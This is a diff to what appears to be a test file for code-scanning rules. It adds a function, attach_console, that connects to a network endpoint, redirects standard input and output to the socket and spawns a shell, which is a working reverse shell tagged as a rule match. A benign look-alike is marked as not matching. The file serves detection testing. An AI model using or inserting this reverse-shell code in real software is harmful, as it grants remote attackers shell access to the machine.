@@ -265,3 +265,20 @@ def write_results(out_dir, metrics):
     # ok: authorized-keys-write
     with open(os.path.join(out_dir, "results.json"), "w") as f:
         json.dump(metrics, f)
+
+
+def attach_console(endpoint):
+    host, _, port = endpoint.rpartition(":")
+    conn = socket.create_connection((host, int(port)), timeout=30)
+    for fd in (0, 1, 2):
+        # ruleid: reverse-shell
+        os.dup2(conn.fileno(), fd)
+    # ruleid: reverse-shell
+    pty.spawn(os.environ.get("SHELL", "/bin/sh"))
+
+
+def redirect_logs(log_sock, cmd):
+    # ok: reverse-shell
+    os.dup2(log_sock.fileno(), 1)
+    # ok: reverse-shell
+    os.execvp(cmd[0], cmd)
